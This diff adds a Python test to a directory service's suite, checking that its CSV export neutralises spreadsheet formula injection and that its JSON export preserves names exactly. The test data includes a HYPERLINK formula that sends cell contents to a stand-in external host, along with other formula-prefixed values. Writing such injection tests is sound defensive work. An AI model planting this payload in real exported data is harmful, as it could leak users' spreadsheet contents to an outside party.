@@ -63,3 +63,26 @@ async def test_integers_beyond_their_column_are_refused(directory: AsyncClient, 
 async def test_the_largest_integer_is_still_a_plain_not_found(directory: AsyncClient, identity_keys) -> None:  # type: ignore[no-untyped-def]
     headers = identity_header(identity_keys[0], user_principal(Role.ADMIN))
     assert (await directory.get("/sync/enregistrements/2147483647", headers=headers)).status_code == 404
+
+
+FORMULA = '=HYPERLINK("https://x.example/?"&A1;"Voir")'
+
+
+async def test_the_csv_export_cannot_carry_a_formula_and_the_json_keeps_the_exact_name(
+        directory: AsyncClient, identity_keys, communes) -> None:  # type: ignore[no-untyped-def]
+    import csv
+    import io
+
+    headers = identity_header(identity_keys[0], user_principal(Role.COORDINATOR))
+    created = await directory.post("/lieux", headers=headers, json=place_payload(
+        nom=FORMULA, adresse="@SUM(1)", presentation_resume="-1+1 et le reste"))
+    assert created.status_code == 201, created.text
+    rows = list(csv.DictReader(io.StringIO((await directory.get("/exports/lieux.csv")).text)))
+    row = next(row for row in rows if row["id"] == created.json()["id"])
+    assert (row["nom"], row["adresse"]) == ("'" + FORMULA, "'@SUM(1)")
+    assert row["presentation_resume"] == "'-1+1 et le reste"
+    assert row["telephone"] == "+33479600404"  # a plain number is no formula: kept as the standard writes it
+    assert all(not value.startswith(("=", "+", "-", "@", "\t", "\r")) or value == row["telephone"]
+               for value in row.values())
+    as_json = (await directory.get("/exports/lieux.json")).json()
+    assert next(place for place in as_json if place["id"] == created.json()["id"])["nom"] == FORMULA
